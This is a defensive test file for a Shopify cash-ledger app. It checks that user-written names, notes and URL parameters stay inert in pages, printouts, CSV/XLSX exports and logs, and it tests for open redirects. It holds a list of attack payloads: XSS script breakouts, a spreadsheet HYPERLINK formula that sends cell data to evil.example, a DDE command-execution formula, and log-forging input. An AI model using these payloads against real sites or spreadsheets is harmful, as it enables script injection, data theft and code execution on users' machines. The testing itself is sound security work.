import "#tests/support/app-env.ts";
import { JSDOM } from "jsdom";
import { symbols } from "pino";
import { beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { log } from "#app/log.server.ts";
import { freshDatabase } from "#tests/support/database.ts";
import { giveToken } from "#tests/support/installed-shop.ts";
import { aShop, storeSessions } from "#tests/support/mirror-fixtures.ts";
import { parseTable } from "#tests/support/parse-csv.ts";
import { readXlsx, tableOf } from "#tests/support/read-xlsx.ts";
import { act } from "#tests/support/review-acts.ts";
import { BROWSER, idToken } from "#tests/support/shopify-requests.ts";
import { startWholeApp } from "#tests/support/whole-app.ts";

// Staff write notes, merchants write names, anyone writes an address: what they wrote is shown, never run.

const SHOP = "quay.myshopify.com";
const HOST = Buffer.from("admin.shopify.com/store/quay").toString("base64url");
const PAYLOADS = [
  "</script><script>window.pwned()</script>",
  '"><img src=x onerror=window.pwned()>',
  "<!--<script>window.pwned()",
  "javascript:window.pwned()",
  "\u2028window.pwned()//",
  '=HYPERLINK("https://evil.example/?"&A1,"window.pwned()")',
  "\n=cmd|' /C calc'!A0 window.pwned()",
  "@SUM(1)*window.pwned()",
  'two\r\n{"level":60,"msg":"window.pwned()"}',
];

/** Files, and how many rows of each hold one of the payloads. */
const FILES = {
  ...{ "sessions.csv": 1, "activities.csv": 1, "review-trail.csv": 1, "drawers.csv": 1 },
  ...{ "location-totals.csv": 1, "daily-totals.csv?per=location": 1, "staff.csv": 1, "exceptions.csv": 1 },
  ...{ "sessions.xlsx": 1, "activities.xlsx": 1, "staff.xlsx": 1, "exceptions.xlsx": 1 },
  // The cash that is missing, and the account that it is booked on.
  ...{ "journal-quickbooks.csv": 2, "journal-xero.csv": 2 },
};

let origin: string;

beforeAll(async () => {
  await freshDatabase();
  origin = await startWholeApp();
  const shop = await aShop({
    domain: SHOP,
    locations: PAYLOADS.map((name, index) => ({ id: index + 1, name })),
    drawers: PAYLOADS.map((name, index) => ({ id: index + 11, name, location: index + 1 })),
    staff: PAYLOADS.map((name, index) => ({ id: index + 501, name })),
  });
  await giveToken(shop);
  const opened = new Date(Date.now() - 24 * 3_600_000).toISOString();
  const closed = new Date(Date.now() - 20 * 3_600_000).toISOString();
  const sessions = PAYLOADS.map((text, index) => ({
    ...{ id: index + 1, drawer: index + 11, location: index + 1, opened, closed, off: `-${index + 2}` },
    ...{ openedBy: index + 501, closedBy: index + 501, openingNote: text, closingNote: text },
    ...{ people: [{ id: index + 501, own: `-${index + 2}` }], exceptions: ["silent_adjustment"] },
    ledger: [{ at: opened, kind: "adjustment" as const, type: "ADJUSTMENT", cash: "1", reason: text, note: text }],
  }));
  await storeSessions(shop, sessions);
  for (const { id } of sessions) {
    const by = { session: String(id), by: id + 500, at: new Date() };
    await act(shop, by, { act: "commented", comment: PAYLOADS[id - 1] ?? "" });
  }
});

function ask(path: string, token: string | null = idToken(SHOP)): Promise<Response> {
  const headers = { "User-Agent": BROWSER, ...(token === null ? {} : { Authorization: `Bearer ${token}` }) };
  return fetch(origin + path, { headers, redirect: "manual" });
}

/** Reads a document as a browser would, without running it: every script in it is one that the policy lets run. */
async function expectHarmless(path: string, answer: Response): Promise<Document> {
  const nonce = /'nonce-([^']+)'/.exec(answer.headers.get("Content-Security-Policy") ?? "")?.[1];
  const { document } = new JSDOM(await answer.text()).window;
  for (const script of document.querySelectorAll("script")) {
    expect([path, script.getAttribute("nonce")]).toEqual([path, nonce]);
    // Data of the page, in which "<" is always escaped, so that nothing in it ends the script; and never a call by itself.
    expect(script.textContent).not.toMatch(/<\/?script|<!--|^\s*window\.pwned/im);
  }
  expect(document.querySelectorAll('img[src="x"], [onerror], [onload], base, object, embed'), path).toHaveLength(0);
  for (const link of document.querySelectorAll("[href], [src], [action]"))
    for (const name of ["href", "src", "action"])
      expect(link.getAttribute(name) ?? "").not.toMatch(/^\s*(javascript|data):/i);
  return document;
}

describe("what people wrote", () => {
  it.each([
    ...[
      "/app",
      "/app/locations",
      "/app/sessions",
      "/app/sessions?q=window",
      "/app/sessions/1",
      "/app/sessions/2",
      "/app/sessions/3",
    ],
    "/app/exports?preset=all",
  ])("is text in the document of %s", async (path) => {
    const answer = await ask(path);
    expect(answer.status).toBe(200);
    const document = await expectHarmless(path, answer);
    expect(document.body.textContent).toContain("window.pwned()");
  });

  it("is text on paper", async () => {
    const headers = { "User-Agent": BROWSER, Authorization: `Bearer ${idToken(SHOP)}` };
    for (const session of PAYLOADS.map((_, index) => String(index + 1))) {
      const body = new URLSearchParams({ session, layout: "ledger", locale: PAYLOADS[0] ?? "" });
      const asked = await fetch(`${origin}/app/papers`, { method: "POST", headers, body });
      const { url } = (await asked.json()) as { url: string };
      const document = await expectHarmless("a paper", await fetch(origin + new URL(url).pathname));
      expect(document.body.textContent).toContain("window.pwned()");
      expect([...document.querySelectorAll("style")].map(({ textContent }) => textContent).join()).not.toMatch(
        /<|pwned\(/,
      );
    }
  });

  it("is text in a spreadsheet", async () => {
    for (const [file, rowsOfEach] of Object.entries(FILES)) {
      const answer = await ask(`/app/exports/${file}`);
      // Its cells say that they are text, whatever they begin with: the reader refuses a formula.
      const isTyped = file.includes(".xlsx");
      const rows = isTyped ? readXlsx(await answer.bytes()).flatMap(tableOf) : parseTable(await answer.text());
      expect(rows).toHaveLength(PAYLOADS.length * rowsOfEach);
      const written = rows.flatMap((row) => Object.values(row)).filter((cell) => cell.includes("pwned"));
      expect(written.length).toBeGreaterThanOrEqual(PAYLOADS.length);
      if (isTyped) continue;
      for (const cell of written) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
  });
});

describe("what stands in an address", () => {
  const evil = encodeURIComponent("</script><script>window.pwned()</script>");

  it.each([
    `/?shop=${SHOP}.evil.example&x=${evil}`,
    `/${evil}`,
    `/app/${evil}`,
    `/app/sessions/${evil}`,
    `/app?from=${evil}&preset=${evil}&after=${evil}&locale=${evil}`,
    `/app/sessions?sort=${evil}&location=${evil}&${evil}=1`,
  ])("is text in its document: %s", async (path) => {
    const answer = await ask(path);
    if (answer.headers.get("Content-Type")?.startsWith("text/html")) await expectHarmless(path, answer);
    else expect(answer.status).toBe(302);
  });

  it("does not get into the pages of Shopify's library, whose scripts carry the nonce too", async () => {
    const inFrame = `shop=${SHOP}&host=${HOST}`;
    const way = encodeURIComponent(`https://admin.shopify.com/</script><script>window.pwned()</script>`);
    for (const path of [`/auth/session-token?${inFrame}`, `/auth/exit-iframe?${inFrame}&exitIframe=${way}`]) {
      const document = await expectHarmless(path, await ask(path, null));
      expect(document.querySelector("script[data-api-key]")).not.toBeNull();
    }
  });

  it("leads nobody elsewhere", async () => {
    const there = [
      "https://evil.example",
      "//evil.example",
      "/\\evil.example",
      "https://admin.shopify.com.evil.example",
    ];
    const leading = there.flatMap((address) => {
      const to = encodeURIComponent(address);
      return [
        ...[`/auth/exit-iframe?shop=${SHOP}&host=${HOST}&exitIframe=${to}`, `/auth/login?shop=${to}`, `/?shop=${to}`],
        ...[`/app?shop=${to}&host=${to}`, `/app?redirect=${to}&returnTo=${to}&redirectUri=${to}`],
        ...[`/auth/callback?shop=${to}`, `/auth/session-token?shop=${SHOP}&shopify-reload=${to}`, `/${address}`],
      ];
    });
    for (const path of leading) {
      const { status, headers } = await ask(path, null);
      expect([path, status < 500]).toEqual([path, true]);
      const location = headers.get("Location");
      if (location === null) continue;
      const { host } = new URL(location, "https://till-ledger.example");
      expect([path, host]).toEqual([path, expect.stringMatching(/^(till-ledger\.example|admin\.shopify\.com)$/)]);
    }
  });

  it("leads to Shopify to install the app when it names a shop", async () => {
    const { headers } = await ask(`/auth/login?shop=${SHOP}`, null);
    expect(headers.get("Location")).toMatch(/^https:\/\/admin\.shopify\.com\/store\/quay\/oauth\/install\?/);
  });
});

describe("the log", () => {
  it("stays one line of JSON a request, without tokens, names and notes, whatever is asked for", async () => {
    const lines = logLines();
    const token = idToken(SHOP);
    const forged = encodeURIComponent('x\n{"level":60,"msg":"forged"}');
    await ask(`/app/sessions?id_token=${token}&sort=${forged}`);
    await ask(`/app/${forged}?id_token=${token}&note=Sesame`, null);
    await ask(`/app/sessions/1?id_token=${token}`);
    await ask(`/auth/exit-iframe?shop=${SHOP}&host=${HOST}&exitIframe=${forged}`, null);
    await fetch(`${origin}/webhooks/shop/redact`, {
      method: "POST",
      body: "Sesame",
      headers: { "X-Request-Id": "a b c" },
    });
    const requests = () => lines.filter((line) => line.includes('"msg":"request"'));
    // The line of a request of the test before may come late: no fewer than asked, and no request twice.
    await expect.poll(() => requests().length).toBeGreaterThanOrEqual(5);
    const ids = requests().map((line) => (JSON.parse(line) as { requestId: string }).requestId);
    expect(new Set(ids).size).toBe(ids.length);
    for (const line of lines) {
      expect(line.trimEnd()).not.toMatch(/[\r\n]/);
      expect(JSON.parse(line)).toMatchObject({ time: expect.any(Number) as number });
      expect(line).not.toMatch(/"msg":"forged"|Sesame|pwned|shpat_|eyJ/);
      expect(line).not.toContain(token.split(".")[2]);
    }
  });
});

/** What is logged from now on, until the test is over. */
function logLines(): string[] {
  const lines: string[] = [];
  const stream = (log as unknown as Record<symbol, { write(line: string): unknown }>)[symbols.streamSym];
  if (stream === undefined) throw new Error("pino keeps its stream elsewhere now.");
  const { level } = log;
  const write = stream.write.bind(stream);
  stream.write = (line) => lines.push(line);
  log.level = "info";
  onTestFinished(() => {
    log.level = level;
    stream.write = write;
  });
  return lines;
}
